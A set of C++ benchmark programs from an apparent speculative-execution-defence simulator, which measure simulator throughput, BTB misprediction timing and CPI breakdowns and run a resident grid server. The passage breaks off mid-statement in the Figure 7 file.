    // dominant fast-forward, legacy (rebuild per window) vs shared
    // checkpoints. Fixed at --jobs=2 so the comparison measures work
    // eliminated, not how much idle hardware can hide the extra
    // fast-forwards.
    SampleParams ab = sp;
    ab.fastforwardInsts = 500'000;
    ab.warmupInsts = 2'000;
    ab.measureInsts = 5'000;
    ab.samples = 2;
    ab.jobs = 2;
    std::vector<std::unique_ptr<Workload>> ab_workloads;
    ab_workloads.push_back(makeWorkload("compute"));
    ab_workloads.push_back(makeWorkload("branchy"));

    SampleParams ab_legacy = ab;
    ab_legacy.reuseCheckpoints = false;
    GridStats legacy_stats;
    const auto legacy_t0 = Clock::now();
    {
        ScopedTimer t(obs.timings, "reuse-ab-legacy");
        runGrid(ab_workloads, configs, ab_legacy, nullptr,
                &legacy_stats);
    }
    const double legacy_seconds = secondsSince(legacy_t0);

    GridStats reuse_stats;
    const auto reuse_t0 = Clock::now();
    {
        ScopedTimer t(obs.timings, "reuse-ab-reuse");
        runGrid(ab_workloads, configs, ab, nullptr, &reuse_stats);
    }
    const double reuse_seconds = secondsSince(reuse_t0);
    const double reuse_speedup = legacy_seconds / reuse_seconds;
    std::printf("\nGrid checkpoint reuse (%zu workloads x %zu "
                "profiles x %u samples, %lluk ff insts, jobs=2):\n"
                "  legacy  %llu fast-forwards, %.2fs\n"
                "  reuse   %llu fast-forwards, %.2fs  (%.2fx)\n",
                ab_workloads.size(), configs.size(), ab.samples,
                static_cast<unsigned long long>(
                    ab.fastforwardInsts / 1000),
                static_cast<unsigned long long>(legacy_stats.ffRuns),
                legacy_seconds,
                static_cast<unsigned long long>(reuse_stats.ffRuns),
                reuse_seconds, reuse_speedup);

    std::FILE *json = std::fopen(json_path.c_str(), "w");
    if (!json) {
        NDA_WARN("cannot write %s", json_path.c_str());
        return 1;
    }
    std::fprintf(json,
                 "{\n"
                 "  \"bench\": \"sim_throughput\",\n"
                 "  \"measure_insts\": %llu,\n"
                 "  \"warmup_insts\": %llu,\n"
                 "  \"jobs\": %u,\n"
                 "  \"profiles\": [\n",
                 static_cast<unsigned long long>(sp.measureInsts),
                 static_cast<unsigned long long>(sp.warmupInsts),
                 sp.jobs);
    for (std::size_t i = 0; i < results.size(); ++i) {
        const ProfileKips &r = results[i];
        std::fprintf(json,
                     "    {\"name\": \"%s\", \"instructions\": %llu, "
                     "\"seconds\": %.4f, \"kips\": %.1f}%s\n",
                     profileName(r.profile),
                     static_cast<unsigned long long>(r.instructions),
                     r.seconds, r.kips(),
                     i + 1 < results.size() ? "," : "");
    }
    std::fprintf(json,
                 "  ],\n"
                 "  \"harness\": {\"jobs\": %u, \"instructions\": "
                 "%llu, \"seconds\": %.4f, \"kips\": %.1f},\n",
                 sp.jobs, static_cast<unsigned long long>(grid_insts),
                 grid_seconds, grid_kips);
    std::fprintf(json,
                 "  \"grid_checkpoint_reuse\": {\"workloads\": %zu, "
                 "\"profiles\": %zu, \"samples\": %u, "
                 "\"fastforward_insts\": %llu, \"jobs\": 2,\n"
                 "    \"legacy_ff_runs\": %llu, \"legacy_seconds\": "
                 "%.4f,\n"
                 "    \"reuse_ff_runs\": %llu, \"reuse_seconds\": "
                 "%.4f, \"speedup\": %.2f}\n"
                 "}\n",
                 ab_workloads.size(), configs.size(), ab.samples,
                 static_cast<unsigned long long>(ab.fastforwardInsts),
                 static_cast<unsigned long long>(legacy_stats.ffRuns),
                 legacy_seconds,
                 static_cast<unsigned long long>(reuse_stats.ffRuns),
                 reuse_seconds, reuse_speedup);
    std::fclose(json);
    std::printf("wrote %s\n", json_path.c_str());

    emitBenchObs(obs, "sim_throughput", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &reg) {
                     m.set("harness_kips", grid_kips);
                     m.set("harness_insts", grid_insts);
                     m.set("reuse_speedup", reuse_speedup);
                     reuse_stats.registerStats(reg, "harness");
                     for (const ProfileKips &r : results)
                         m.set(std::string("kips_") +
                                   profileName(r.profile),
                               r.kips());
                 });
    return 0;
}
