/**
 * @file
 * Simulator-throughput microbenchmark: reports KIPS (simulated
 * kilo-instructions per host-second) per machine profile, plus the
 * aggregate harness throughput with `--jobs` concurrent windows, and
 * writes BENCH_throughput.json so the performance trajectory of the
 * core hot path is tracked from PR to PR.
 *
 * Per-profile numbers are measured serially (one window at a time) so
 * they isolate single-core simulation speed; the harness number runs
 * the same windows through runGrid() on the pool.
 */

#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "bench_common.hh"
#include "harness/csv.hh"
#include "harness/table_printer.hh"
#include "obs/stats_schema.hh"

using namespace nda;

namespace {

using Clock = std::chrono::steady_clock;

double
secondsSince(Clock::time_point t0)
{
    return std::chrono::duration<double>(Clock::now() - t0).count();
}

struct ProfileKips {
    Profile profile;
    std::uint64_t instructions = 0;
    double seconds = 0.0;
    double kips() const { return instructions / seconds / 1000.0; }
};

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    SampleParams sp = parseSampleArgs(
        argc, argv, {"--json=", "--stats-schema"}, &obs);
    std::string json_path = "BENCH_throughput.json";
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--json=", 0) == 0)
            json_path = arg.substr(7);
        if (arg == "--stats-schema") {
            // Print the canonical stat-name schema and exit; CI diffs
            // this against tests/golden/stats_schema.txt.
            for (const std::string &name : canonicalStatsSchema())
                std::printf("%s\n", name.c_str());
            return 0;
        }
    }
    // One window per (workload, profile): this measures host-side
    // simulation speed, not simulated statistics, so samples add
    // nothing but wall-clock.
    sp.samples = 1;

    printBanner("Simulator throughput (KIPS = simulated kilo-insts "
                "per host-second)");

    // A branch-heavy, a memory-bound, and an ILP-rich kernel: the mix
    // exercises every pipeline structure without running the full
    // 16-kernel suite.
    const std::vector<std::string> names{"compute", "branchy",
                                         "ptrchase", "mixed"};
    std::vector<std::unique_ptr<Workload>> workloads;
    for (const std::string &n : names)
        workloads.push_back(makeWorkload(n));

    const auto profiles = allProfiles();
    std::vector<ProfileKips> results;
    TablePrinter table({"profile", "sim insts", "host sec", "KIPS"});
    ScopedTimer serial_timer(obs.timings, "per-profile-serial");
    for (Profile p : profiles) {
        ProfileKips r{p};
        const SimConfig cfg = makeProfile(p);
        const auto t0 = Clock::now();
        for (const auto &w : workloads) {
            const WindowStats s = runWindow(*w, cfg, sp.baseSeed, sp);
            // Warm-up instructions are simulated work too.
            r.instructions += s.instructions + sp.warmupInsts;
        }
        r.seconds = secondsSince(t0);
        results.push_back(r);
        table.addRow({profileName(p),
                      std::to_string(r.instructions),
                      TablePrinter::fmt(r.seconds, 2),
                      TablePrinter::fmt(r.kips(), 1)});
    }
    serial_timer.stop();
    table.print();

    // Aggregate harness throughput: the same grid through the pool.
    std::vector<SimConfig> configs;
    for (Profile p : profiles)
        configs.push_back(makeProfile(p));
    const auto t0 = Clock::now();
    ScopedTimer grid_timer(obs.timings, "harness-grid");
    const std::vector<RunResult> grid = runGrid(workloads, configs, sp);
    grid_timer.stop();
    const double grid_seconds = secondsSince(t0);
    std::uint64_t grid_insts = 0;
    for (const RunResult &r : grid)
        grid_insts += r.mean.instructions +
                      sp.warmupInsts * sp.samples;
    const double grid_kips = grid_insts / grid_seconds / 1000.0;
    std::printf("\nHarness aggregate (--jobs=%u): %llu insts in %.2fs "
                "= %.1f KIPS\n",
                sp.jobs, static_cast<unsigned long long>(grid_insts),
                grid_seconds, grid_kips);

    std::FILE *json = std::fopen(json_path.c_str(), "w");
    if (!json) {
        NDA_WARN("cannot write %s", json_path.c_str());
        return 1;
    }
    std::fprintf(json,
                 "{\n"
                 "  \"bench\": \"sim_throughput\",\n"
                 "  \"measure_insts\": %llu,\n"
                 "  \"warmup_insts\": %llu,\n"
                 "  \"jobs\": %u,\n"
                 "  \"profiles\": [\n",
                 static_cast<unsigned long long>(sp.measureInsts),
                 static_cast<unsigned long long>(sp.warmupInsts),
                 sp.jobs);
    for (std::size_t i = 0; i < results.size(); ++i) {
        const ProfileKips &r = results[i];
        std::fprintf(json,
                     "    {\"name\": \"%s\", \"instructions\": %llu, "
                     "\"seconds\": %.4f, \"kips\": %.1f}%s\n",
                     profileName(r.profile),
                     static_cast<unsigned long long>(r.instructions),
                     r.seconds, r.kips(),
                     i + 1 < results.size() ? "," : "");
    }
    std::fprintf(json,
                 "  ],\n"
                 "  \"harness\": {\"jobs\": %u, \"instructions\": "
                 "%llu, \"seconds\": %.4f, \"kips\": %.1f}\n"
                 "}\n",
                 sp.jobs, static_cast<unsigned long long>(grid_insts),
                 grid_seconds, grid_kips);
    std::fclose(json);
    std::printf("wrote %s\n", json_path.c_str());

    emitBenchObs(obs, "sim_throughput", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &) {
                     m.set("harness_kips", grid_kips);
                     m.set("harness_insts", grid_insts);
                     for (const ProfileKips &r : results)
                         m.set(std::string("kips_") +
                                   profileName(r.profile),
                               r.kips());
                 });
    return 0;
}
