/**
 * @file
 * Regenerates paper Figure 5: the cost of a BTB misprediction. A
 * single indirect call site is trained to one target, then redirected
 * to another; the cycle difference between the correctly-predicted
 * and mispredicted executions is the BTB covert channel's signal
 * (paper: ~16 cycles on its Haswell-like configuration).
 */

#include <cstdio>

#include "bench_common.hh"
#include "core/ooo_core.hh"
#include "harness/table_printer.hh"
#include "isa/program.hh"

using namespace nda;

namespace {

constexpr Addr kResults = 0x100000;
constexpr int kRounds = 12; // rounds 0..10 trained, round 11 redirected

Program
buildTimingProbe()
{
    ProgramBuilder b("btb-timing");
    b.zeroSegment(kResults, kRounds * 8);

    auto main_l = b.futureLabel();
    b.jmp(main_l);
    const Addr fn_a = b.here();
    b.ret(28);
    const Addr fn_b = b.here();
    b.ret(28);

    // measure(target in r1): time one indirect call from a fixed site.
    auto measure = b.label();
    b.fence();
    b.rdtsc(10);
    b.callr(28, 1);                 // the single measured call site
    b.rdtsc(11);
    b.sub(12, 11, 10);
    b.ret(30);

    b.bind(main_l);
    b.movi(2, static_cast<std::int64_t>(fn_a));
    b.movi(3, static_cast<std::int64_t>(fn_b));
    b.movi(18, 0);
    b.movi(19, kRounds);
    auto loop = b.label();
    // target = fn_a for all rounds except the last, which redirects.
    b.movi(5, kRounds - 1);
    b.cmpeq(6, 18, 5);
    b.sub(7, 3, 2);
    b.mul(7, 6, 7);
    b.add(1, 2, 7);                 // r1 = fn_a or fn_b
    b.call(30, measure);
    b.movi(8, kResults);
    b.shli(9, 18, 3);
    b.add(8, 8, 9);
    b.store(8, 0, 12, 8);
    b.addi(18, 18, 1);
    b.blt(18, 19, loop);
    b.halt();
    return b.build();
}

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    const SampleParams sp = parseSampleArgs(argc, argv, {}, &obs);
    printBanner("Figure 5: BTB misprediction recovery overhead");
    std::printf("Paper reference: ~16 cycles for the BTB miss to "
                "resolve,\nwrong-path to squash, and fetch to resume "
                "at the correct target.\n\n");

    ScopedTimer probe_timer(obs.timings, "probe");
    OooCore core(buildTimingProbe(), makeProfile(Profile::kOoo));
    core.run(~std::uint64_t{0}, 1'000'000);
    probe_timer.stop();
    if (!core.halted()) {
        NDA_WARN("probe did not finish");
        return 1;
    }

    TablePrinter t({"round", "prediction", "cycles"});
    double predicted = 0;
    double mispredicted = 0;
    for (int round = 0; round < kRounds; ++round) {
        const auto cycles = core.mem().read(
            kResults + static_cast<Addr>(round) * 8, 8);
        const bool redirected = round == kRounds - 1;
        if (round >= kRounds / 2 && !redirected)
            predicted = static_cast<double>(cycles);
        if (redirected)
            mispredicted = static_cast<double>(cycles);
        t.addRow({std::to_string(round),
                  redirected ? "mispredicted (redirected target)"
                             : "correct (trained)",
                  std::to_string(cycles)});
    }
    t.print();

    const double penalty = mispredicted - predicted;
    std::printf("\nSummary (paper -> measured):\n");
    std::printf("  BTB mispredict penalty ~16 cycles -> %.0f cycles\n",
                penalty);

    emitBenchObs(obs, "fig05_btb_timing", Profile::kOoo, sp,
                 [&](RunManifest &m, StatsRegistry &) {
                     m.set("mispredict_penalty_cycles", penalty);
                 });
    return penalty >= 5 ? 0 : 1;
}
