/**
 * @file
 * Long-running grid server: newline-delimited JSON requests in, JSON
 * result lines out (harness/grid_service.hh documents the protocol).
 * By default it speaks the line protocol on stdin/stdout — pipe
 * requests in, read responses back, one process per experiment
 * script:
 *
 *   printf '%s\n' '{"workloads":["compute"],"profiles":["OoO"],
 *                   "fastforward":100000,"samples":2}' |
 *       ./grid_server --ckpt-dir=corpus
 *
 * With --socket=PATH it instead listens on a unix-domain stream
 * socket and serves connections one at a time (requests from a
 * connection are handled in order; the grid itself parallelizes
 * across --jobs-controlled worker lanes per request).
 *
 * The point of staying resident: the checkpoint corpus (--ckpt-dir)
 * is opened once and shared across every request, so repeated grids
 * over the same (workload, seed, stride, geometry) recipes skip
 * their fast-forward phase entirely after the first request.
 */

#include <csignal>
#include <cstdio>
#include <cstring>
#include <memory>
#include <string>

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "bench_common.hh"
#include "ckpt/checkpoint_store.hh"
#include "harness/grid_service.hh"

using namespace nda;

namespace {

void
printUsage(const char *prog)
{
    std::fprintf(
        stderr,
        "usage: %s [options]\n"
        "  --socket=PATH        listen on a unix-domain socket "
        "instead of stdin\n"
        "  --ckpt-dir=DIR       persistent checkpoint corpus shared "
        "across requests\n"
        "  --ckpt-max-bytes=N   LRU size cap for the corpus "
        "(0 = unbounded)\n"
        "  --no-ckpt            run without a corpus even if "
        "--ckpt-dir was given\n"
        "  --quiet              warnings and results only\n"
        "  -v                   verbose (debug-level) logging\n",
        prog);
}

/** Serve one stream: parse request lines, write response lines. */
void
serveStream(GridService &service, std::FILE *in,
            const GridService::Emit &emit)
{
    std::string pending;
    char buf[4096];
    while (std::fgets(buf, sizeof(buf), in)) {
        pending += buf;
        if (pending.empty() || pending.back() != '\n')
            continue; // long line: keep accumulating
        pending.pop_back();
        if (!pending.empty())
            service.handleRequest(pending, emit);
        pending.clear();
    }
    if (!pending.empty())
        service.handleRequest(pending, emit);
}

int
serveSocket(GridService &service, const std::string &path)
{
    const int listener = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (listener < 0) {
        std::perror("socket");
        return 1;
    }
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    if (path.size() >= sizeof(addr.sun_path)) {
        std::fprintf(stderr, "socket path too long: %s\n",
                     path.c_str());
        ::close(listener);
        return 1;
    }
    std::strncpy(addr.sun_path, path.c_str(),
                 sizeof(addr.sun_path) - 1);
    ::unlink(path.c_str()); // stale socket from a previous run
    if (::bind(listener, reinterpret_cast<sockaddr *>(&addr),
               sizeof(addr)) != 0 ||
        ::listen(listener, 4) != 0) {
        std::perror(path.c_str());
        ::close(listener);
        return 1;
    }
    NDA_INFORM("grid_server listening on %s", path.c_str());

    for (;;) {
        const int conn = ::accept(listener, nullptr, nullptr);
        if (conn < 0)
            break;
        std::FILE *in = ::fdopen(conn, "r");
        if (!in) {
            ::close(conn);
            continue;
        }
        const auto emit = [conn](const std::string &response) {
            std::string framed = response;
            framed += '\n';
            std::size_t off = 0;
            while (off < framed.size()) {
                const ssize_t n = ::write(conn, framed.data() + off,
                                          framed.size() - off);
                if (n <= 0)
                    return; // client went away mid-response
                off += static_cast<std::size_t>(n);
            }
        };
        serveStream(service, in, emit);
        std::fclose(in); // closes conn too
    }
    ::close(listener);
    ::unlink(path.c_str());
    return 0;
}

} // namespace

int
main(int argc, char **argv)
{
    std::string socket_path;
    std::string ckpt_dir;
    std::uint64_t ckpt_max_bytes = 0;
    bool no_ckpt = false;
    logVerbosity = std::max(logVerbosity, 1);

    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        const auto number = [&](std::size_t prefix_len) {
            const std::string value = arg.substr(prefix_len);
            std::size_t consumed = 0;
            unsigned long long n = 0;
            try {
                n = std::stoull(value, &consumed);
            } catch (const std::exception &) {
            }
            if (value.empty() || consumed != value.size()) {
                std::fprintf(stderr,
                             "%s: invalid value in '%s' (expected a "
                             "number)\n",
                             argv[0], arg.c_str());
                printUsage(argv[0]);
                std::exit(2);
            }
            return n;
        };
        if (arg.rfind("--socket=", 0) == 0) {
            socket_path = arg.substr(9);
            if (socket_path.empty()) {
                std::fprintf(stderr, "%s: --socket= needs a path\n",
                             argv[0]);
                printUsage(argv[0]);
                return 2;
            }
        } else if (arg.rfind("--ckpt-dir=", 0) == 0) {
            ckpt_dir = arg.substr(11);
            if (ckpt_dir.empty()) {
                std::fprintf(stderr, "%s: --ckpt-dir= needs a path\n",
                             argv[0]);
                printUsage(argv[0]);
                return 2;
            }
        } else if (arg.rfind("--ckpt-max-bytes=", 0) == 0) {
            ckpt_max_bytes = number(17);
        } else if (arg == "--no-ckpt") {
            no_ckpt = true;
        } else if (arg == "--quiet" || arg == "-q") {
            logVerbosity = 0;
        } else if (arg == "-v" || arg == "--verbose") {
            logVerbosity = 2;
        } else if (arg == "--help" || arg == "-h") {
            printUsage(argv[0]);
            return 0;
        } else {
            std::fprintf(stderr, "%s: unrecognized argument '%s'\n",
                         argv[0], arg.c_str());
            printUsage(argv[0]);
            return 2;
        }
    }

    // A SIGPIPE from a vanished client must not kill the server; the
    // write loop already treats short writes as disconnect.
    std::signal(SIGPIPE, SIG_IGN);

    std::unique_ptr<CheckpointStore> corpus;
    if (!ckpt_dir.empty() && !no_ckpt)
        corpus = std::make_unique<CheckpointStore>(ckpt_dir,
                                                   ckpt_max_bytes);
    GridService service(corpus.get());

    if (!socket_path.empty())
        return serveSocket(service, socket_path);

    serveStream(service, stdin, [](const std::string &response) {
        std::fwrite(response.data(), 1, response.size(), stdout);
        std::fputc('\n', stdout);
        std::fflush(stdout);
    });
    return 0;
}
