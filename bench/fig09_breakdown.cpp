/**
 * @file
 * Regenerates paper Figure 9 (aggregated statistics over the suite):
 *   9a  cycle breakdown: commit / memory stalls / backend stalls /
 *       frontend stalls, normalized to baseline OoO cycles
 *   9b  memory-level parallelism (Chou et al. definition)
 *   9c  instruction-level parallelism
 *   9d  dispatch-to-issue latency
 *   9e  CPI sensitivity to 0/1/2 cycles of extra NDA broadcast delay
 */

#include <cstdio>

#include "bench_common.hh"
#include "common/stats_util.hh"
#include "harness/table_printer.hh"

using namespace nda;

namespace {

struct ProfileAgg {
    double cycles = 0; // vs OoO
    double commit = 0, mem = 0, backend = 0, frontend = 0;
    std::vector<double> mlps, ilps;
    double d2i = 0;
    int n = 0;
};

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    const SampleParams sp = parseSampleArgs(argc, argv, {}, &obs);
    const auto workloads = makeAllWorkloads();
    const auto profiles = ndaProfiles();

    // Fig 9 uses one window per (workload, profile) cell at the base
    // seed; the whole grid runs concurrently on sp.jobs lanes.
    SampleParams one = sp;
    one.samples = 1;
    std::vector<SimConfig> configs;
    for (Profile p : profiles)
        configs.push_back(makeProfile(p));
    ScopedTimer grid_timer(obs.timings, "grid");
    const std::vector<RunResult> grid =
        runGrid(workloads, configs, one, gridProgress);
    grid_timer.stop();

    std::vector<ProfileAgg> agg(profiles.size());
    for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
        double base_cycles = 0;
        for (std::size_t i = 0; i < profiles.size(); ++i) {
            const WindowStats &s =
                grid[wi * profiles.size() + i].mean;
            const auto cyc = static_cast<double>(s.cycles);
            if (profiles[i] == Profile::kOoo)
                base_cycles = cyc;
            ProfileAgg &a = agg[i];
            a.cycles += cyc / base_cycles;
            a.commit += s.commitFrac * cyc / base_cycles;
            a.mem += s.memStallFrac * cyc / base_cycles;
            a.backend += s.backendStallFrac * cyc / base_cycles;
            a.frontend += s.frontendStallFrac * cyc / base_cycles;
            a.mlps.push_back(std::max(s.mlp, 0.01));
            a.ilps.push_back(std::max(s.ilp, 0.01));
            a.d2i += s.dispatchToIssue;
            ++a.n;
        }
    }

    printBanner("Figure 9a: cycle breakdown (normalized to OoO "
                "cycles; avg over workloads)");
    TablePrinter t9a({"profile", "total", "commit", "mem stalls",
                      "backend stalls", "frontend stalls"});
    for (std::size_t i = 0; i < profiles.size(); ++i) {
        const ProfileAgg &a = agg[i];
        const double n = a.n;
        t9a.addRow({profileName(profiles[i]),
                    TablePrinter::fmt(a.cycles / n, 2),
                    TablePrinter::fmt(a.commit / n, 2),
                    TablePrinter::fmt(a.mem / n, 2),
                    TablePrinter::fmt(a.backend / n, 2),
                    TablePrinter::fmt(a.frontend / n, 2)});
    }
    t9a.print();
    std::printf("Paper: NDA policies extend commit and backend-stall "
                "cycles;\nfrontend stalls contribute only ~2%% of the "
                "difference.\n");

    printBanner("Figure 9b/9c: MLP and ILP geomeans");
    TablePrinter t9bc({"profile", "MLP", "ILP"});
    for (std::size_t i = 0; i < profiles.size(); ++i) {
        t9bc.addRow({profileName(profiles[i]),
                     TablePrinter::fmt(geomean(agg[i].mlps), 2),
                     TablePrinter::fmt(geomean(agg[i].ilps), 2)});
    }
    t9bc.print();
    std::printf("Paper: NDA MLP/ILP stay close to OoO and well above "
                "the\nin-order core, where neither can exceed 1.0.\n");

    printBanner("Figure 9d: mean dispatch-to-issue latency (cycles)");
    TablePrinter t9d({"profile", "dispatch-to-issue"});
    for (std::size_t i = 0; i < profiles.size(); ++i) {
        if (profiles[i] == Profile::kInOrder)
            continue;
        t9d.addRow({profileName(profiles[i]),
                    TablePrinter::fmt(agg[i].d2i / agg[i].n, 1)});
    }
    t9d.print();
    std::printf("Paper: NDA adds 4-39 cycles on average, but the CPI "
                "impact\nis substantially smaller.\n");

    printBanner("Figure 9e: CPI sensitivity to extra NDA broadcast "
                "delay (permissive)");
    TablePrinter t9e({"extra delay", "relative CPI"});
    {
        std::vector<SimConfig> delay_cfgs;
        for (unsigned delay : {0u, 1u, 2u}) {
            SimConfig cfg = makeProfile(Profile::kPermissive);
            cfg.security.extraBroadcastDelay = delay;
            delay_cfgs.push_back(cfg);
        }
        const std::vector<RunResult> dgrid =
            runGrid(workloads, delay_cfgs, one);
        double base = 0;
        for (std::size_t d = 0; d < delay_cfgs.size(); ++d) {
            std::vector<double> rel;
            for (std::size_t wi = 0; wi < workloads.size(); ++wi)
                rel.push_back(
                    dgrid[wi * delay_cfgs.size() + d].mean.cpi);
            const double g = geomean(rel);
            if (d == 0)
                base = g;
            t9e.addRow({std::to_string(d) + " cycle(s)",
                        TablePrinter::fmt(g / base, 3)});
        }
    }
    t9e.print();
    std::printf("Paper: a one-cycle delay changes CPI by less than "
                "3.6%%.\n");

    emitBenchObs(obs, "fig09_breakdown", Profile::kStrict, sp);
    return 0;
}
