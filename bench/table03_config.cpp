/**
 * @file
 * Regenerates paper Table 3: the simulated machine configuration.
 */

#include <cstdio>

#include "bench_common.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    BenchObs obs;
    const SampleParams sp = parseSampleArgs(argc, argv, {}, &obs);
    printBanner("Table 3: simulation configuration");
    std::printf("%s\n", configTable(makeProfile(Profile::kOoo)).c_str());
    std::printf(
        "Paper values: x86-64 @ 2.0 GHz; 8-issue OoO, no SMT, 32 LQ,\n"
        "32 SQ, 192 ROB, 4096 BTB, 16 RAS; in-order = "
        "TimingSimpleCPU;\nL1-I/L1-D 32 kB 8-way 4-cycle RT, 1 port; "
        "L2 2 MB 16-way\n40-cycle RT; DRAM 50 ns.\n");

    emitBenchObs(obs, "table03_config", Profile::kOoo, sp);
    return 0;
}
