/**
 * @file
 * Regenerates paper Figure 7: cycles-per-instruction of all ten
 * machine profiles on every workload, normalized to the insecure OoO
 * baseline, with 95% confidence intervals from SMARTS-style sampled
 * measurement (paper §6.1). Ends with the geomean row and the
 * headline gap-closure claims of the abstract.
 *
 * With --cpi-stack the same grid also carries the causal CPI-stack
 * profiler: every cell's slot decomposition is identity-checked
 * (sum of cause buckets == width x cycles, exactly), an attribution
 * table explains each profile's aggregate CPI term by term, and the
 * per-cell stacks export as a tidy CSV (--stack-csv=) plus a
 * flamegraph-ready collapsed-stack file (--stack-out=).
 */

#include <array>
#include <cstdio>
#include <map>
#include <memory>

#include "bench_common.hh"
#include "harness/csv.hh"
#include "common/stats_util.hh"
#include "harness/table_printer.hh"
#include "obs/json_writer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    BenchObs obs;
    BenchCkpt ckpt;
    BenchSmt smt;
    SampleParams sp = parseSampleArgs(
        argc, argv,
        {"--csv=", "--mshr=", "--stack-csv=", "--stack-out=",
         BenchSmt::kUsageSmt, BenchSmt::kUsagePolicy,
         BenchCkpt::kUsageDir, BenchCkpt::kUsageMaxBytes,
         BenchCkpt::kUsageNoCkpt},
        &obs, &ckpt, &smt);
    std::string csv_path;
    std::string stack_csv_path;
    std::string stack_out_path;
    unsigned mshr_entries = 0;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg.rfind("--csv=", 0) == 0)
            csv_path = arg.substr(6);
        else if (arg.rfind("--stack-csv=", 0) == 0)
            stack_csv_path = arg.substr(12);
        else if (arg.rfind("--stack-out=", 0) == 0)
            stack_out_path = arg.substr(12);
        else if (arg.rfind("--mshr=", 0) == 0)
            mshr_entries = static_cast<unsigned>(
                parseFlagNumber(argv[0], arg, 7));
    }
    // The stack exports are meaningless without the profiler; asking
    // for one opts the grid in rather than silently emitting zeros.
    if ((!stack_csv_path.empty() || !stack_out_path.empty()) &&
        !sp.cpiStack) {
        sp.cpiStack = true;
    }
    printBanner("Figure 7: normalized CPI, all profiles x all "
                "workloads (95% CI over " +
                std::to_string(sp.samples) + " samples, " +
                std::to_string(sp.jobs) + " jobs)");

    const auto workloads = makeAllWorkloads();
    const auto profiles = allProfiles();

    // The whole figure is one grid of independent windows — run them
    // all concurrently, then format from the reduced cells.
    std::vector<SimConfig> configs;
    for (Profile p : profiles) {
        SimConfig cfg = makeProfile(p);
        cfg.memory.mshrEntries = mshr_entries;
        smt.apply(cfg);
        configs.push_back(cfg);
    }
    const std::unique_ptr<CheckpointStore> corpus = ckpt.open();
    GridStats grid_stats;
    ScopedTimer grid_timer(obs.timings, "grid");
    const std::vector<RunResult> grid = runGrid(
        workloads, configs, sp, gridProgress, &grid_stats,
        corpus.get());
    grid_timer.stop();
    if (corpus) {
        NDA_INFORM("checkpoint corpus '%s': %llu hits, %llu misses, "
                   "%llu entries on disk",
                   corpus->dir().c_str(),
                   static_cast<unsigned long long>(
                       corpus->stats().hits),
                   static_cast<unsigned long long>(
                       corpus->stats().misses),
                   static_cast<unsigned long long>(
                       corpus->entryCount()));
    }

    std::vector<std::string> headers{"workload"};
    for (Profile p : profiles)
        headers.push_back(profileName(p));
    TablePrinter table(headers);

    std::unique_ptr<CsvWriter> csv;
    if (!csv_path.empty()) {
        csv = std::make_unique<CsvWriter>(csv_path);
        std::vector<std::string> hdr{"workload"};
        for (Profile p : profiles) {
            hdr.push_back(profileName(p));
            hdr.push_back(std::string(profileName(p)) + "_ci95");
        }
        csv->row(hdr);
    }
    std::map<Profile, std::vector<double>> norm;
    for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
        const auto &w = workloads[wi];
        std::vector<std::string> row{w->name()};
        std::vector<std::string> csv_row{w->name()};
        double base_cpi = 0.0;
        for (std::size_t pi = 0; pi < profiles.size(); ++pi) {
            const Profile p = profiles[pi];
            const RunResult &r = grid[wi * profiles.size() + pi];
            if (p == Profile::kOoo)
                base_cpi = r.mean.cpi;
            const double rel = r.mean.cpi / base_cpi;
            norm[p].push_back(rel);
            char cell[64];
            std::snprintf(cell, sizeof(cell), "%.2f±%.2f", rel,
                          r.cpiCi95 / base_cpi);
            row.push_back(cell);
            csv_row.push_back(CsvWriter::num(rel, 4));
            csv_row.push_back(CsvWriter::num(r.cpiCi95 / base_cpi, 4));
        }
        table.addRow(row);
        if (csv)
            csv->row(csv_row);
    }

    std::vector<std::string> geo_row{"GEOMEAN"};
    std::map<Profile, double> geo;
    for (Profile p : profiles) {
        geo[p] = geomean(norm[p]);
        geo_row.push_back(TablePrinter::fmt(geo[p], 3));
    }
    table.addRow(geo_row);
    table.print();

    std::printf("\nPaper geomeans (Table 2 overhead column + text):\n"
                "  OoO 1.00, Permissive 1.107, Permissive+BR 1.223,\n"
                "  Strict 1.361, Strict+BR 1.45, Restricted Loads "
                "2.00,\n"
                "  Full Protection 2.25, In-Order ~5.4x,\n"
                "  InvisiSpec-Spectre 1.076, InvisiSpec-Future "
                "1.327.\n");

    // The abstract's headline claims.
    const double in_order = geo[Profile::kInOrder];
    const double perm_br = geo[Profile::kPermissiveBr];
    const double full = geo[Profile::kFullProtection];
    const double gap = in_order - 1.0;
    std::printf("\nHeadline claims (paper -> measured):\n");
    std::printf("  Permissive+BR closes 96%% of the in-order/OoO gap "
                "-> %.0f%%\n",
                100.0 * (in_order - perm_br) / gap);
    std::printf("  Full protection closes 68%% of the gap -> %.0f%%\n",
                100.0 * (in_order - full) / gap);
    std::printf("  Permissive+BR is 4.8x faster than in-order -> "
                "%.1fx\n",
                in_order / perm_br);
    std::printf("  Full protection is 2.4x faster than in-order -> "
                "%.1fx\n",
                in_order / full);

    // ---- CPI-stack attribution (--cpi-stack) -------------------------
    std::string stacks_json;
    if (sp.cpiStack) {
        // Every cell must close the slot identity exactly — the
        // aggregated mean keeps slotStack and cycles as sums over
        // samples, so any residue is an attribution bug, not rounding.
        for (std::size_t wi = 0; wi < workloads.size(); ++wi) {
            for (std::size_t pi = 0; pi < profiles.size(); ++pi) {
                const RunResult &r = grid[wi * profiles.size() + pi];
                std::uint64_t accounted = 0;
                for (const std::uint64_t s : r.mean.slotStack)
                    accounted += s;
                const std::uint64_t total =
                    static_cast<std::uint64_t>(r.mean.slotWidth) *
                    r.mean.cycles;
                NDA_ASSERT(accounted == total,
                           "CPI-stack identity broken on %s x %s: "
                           "%llu accounted != %llu slots",
